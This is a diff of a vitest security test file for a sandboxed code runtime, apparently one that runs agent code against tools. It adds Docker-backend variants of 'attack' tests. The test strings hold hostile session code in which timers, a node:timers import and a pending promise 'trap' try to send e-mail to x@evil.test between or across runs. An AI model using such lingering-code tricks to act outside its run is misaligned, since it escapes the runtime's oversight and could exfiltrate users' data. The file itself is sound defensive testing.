@@ -8,8 +8,10 @@
 import { appendFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { describe, expect, it } from 'vitest'
-import type { Runtime } from '../../runtime/create-runtime.js'
+import { beforeAll, describe, expect, it } from 'vitest'
+import type { Runtime, RuntimeOptions } from '../../runtime/create-runtime.js'
+import { dockerEngine } from '../docker/engine.js'
+import { ensureImage } from '../docker/helpers.js'
 import type { Session } from '../../runtime/session.js'
 import type { RunResult } from '../../vocabulary/types.js'
 import { unmatchedCalls } from '../support/runtime.js'
@@ -29,6 +31,10 @@ async function attackRuntime(extra: Parameters<typeof sessionRuntime>[0] = {}) {
 function runAs(rt: Runtime, s: Session, caller: string | undefined, code: string): Promise<RunResult> {
   return rt.runCode(code, { session: s, ...(caller ? { caller } : {}) })
 }
+
+/** The backends the run-level attacks run on: the isolate always, Docker where an engine is (one container per session). */
+const BACKENDS: [string, Partial<RuntimeOptions>][] = [['isolate', {}]]
+if (dockerEngine.available) BACKENDS.push(['docker', { sandbox: 'docker' }])
 
 const CALLERS = [
   ['two sessions of one caller', undefined, undefined],
@@ -253,9 +259,13 @@ describe('what a session run makes the log hold', () => {
   })
 })
 
-describe('timers and promises a session leaves behind', () => {
+describe.each(BACKENDS)('timers and promises a session leaves behind (%s)', (backend, options) => {
+  beforeAll(async () => {
+    if (backend === 'docker') await ensureImage()
+  })
+
   it('a timer or a pending promise left by a run never calls a tool while no run of its session is running', async () => {
-    const { rt, counted } = await attackRuntime()
+    const { rt, counted } = await attackRuntime(options)
     const a = rt.session()
     const left = await a.runCode(`setTimeout(() => tools.send_email({ to: 'x@evil.test', subject: 'from a timer' }), 50)
       setInterval(() => { globalThis.ticks = (globalThis.ticks ?? 0) + 1; tools.send_email({ to: 'x@evil.test', subject: 'tick' }) }, 20)
@@ -278,8 +288,25 @@ describe('timers and promises a session leaves behind', () => {
     expect(unmatchedCalls(rt.log.all())).toEqual([])
   })
 
+  it.runIf(backend === 'docker')("Node's own timers, reached by an import, never call a tool between runs", async () => {
+    const { rt, counted } = await attackRuntime(options)
+    const a = rt.session()
+    const left = await a.runCode(`const timers = await import('node:timers')
+      timers.setInterval(() => { tools.send_email({ to: 'x@evil.test', subject: 'node tick' }).catch(() => {}) }, 20)
+      return 'armed'`)
+    expect(left.error === null || left.error.kind === 'compile' || left.error.kind === 'runtime', left.observation).toBe(true)
+    const sent = counted.counts.get('send_email') ?? 0
+    await pause(500)
+    expect(counted.counts.get('send_email') ?? 0, 'no e-mail sent between runs').toBe(sent)
+    const next = await a.runCode("await new Promise((r) => setTimeout(r, 200))\nreturn 'quiet?'")
+    expect(
+      next.calls.filter((c) => c.name === 'send_email'),
+      next.observation,
+    ).toEqual([])
+  })
+
   it('a promise of run 1 that resolves during run 2 cannot make run 2 call tools it did not ask for', async () => {
-    const { rt, counted } = await attackRuntime()
+    const { rt, counted } = await attackRuntime(options)
     const a = rt.session()
     await a.runCode(`globalThis.trap = new Promise((resolve) => { globalThis.spring = resolve }).then(() => tools.send_email({ to: 'x@evil.test', subject: 'sprung' }))
       return 1`)
@@ -291,9 +318,13 @@ describe('timers and promises a session leaves behind', () => {
   })
 })
 
-describe('runs of one session at once', () => {
+describe.each(BACKENDS)('runs of one session at once (%s)', (backend, options) => {
+  beforeAll(async () => {
+    if (backend === 'docker') await ensureImage()
+  })
+
   it('racing runs of one session are serialised or refused clearly, never interleaved', async () => {
-    const { rt } = await attackRuntime()
+    const { rt } = await attackRuntime(options)
     const s = rt.session()
     await s.runCode('let counter = 0')
     const bump = 'const before = counter\nawait tools.sleep({ ms: 30 })\ncounter = before + 1\nreturn counter'
@@ -306,7 +337,7 @@ describe('runs of one session at once', () => {
   })
 
   it('a storm of runs and resets on one session ends consistent: after the last reset, nothing of before', async () => {
-    const { rt } = await attackRuntime()
+    const { rt } = await attackRuntime(options)
     const s = rt.session()
     const work: Promise<unknown>[] = []
     for (let i = 0; i < 6; i++) {
@@ -322,7 +353,7 @@ describe('runs of one session at once', () => {
   })
 
   it.each(['reset', 'close'] as const)('%s() during a run settles the run and leaves none of its state', async (how) => {
-    const { rt, counted } = await attackRuntime()
+    const { rt, counted } = await attackRuntime(options)
     const s = rt.session()
     await s.runCode("const before = 'kept?'")
     const running = s.runCode("await tools.sleep({ ms: 800 })\nglobalThis.after = 'set'\nconst late = 1\nreturn 'finished'")
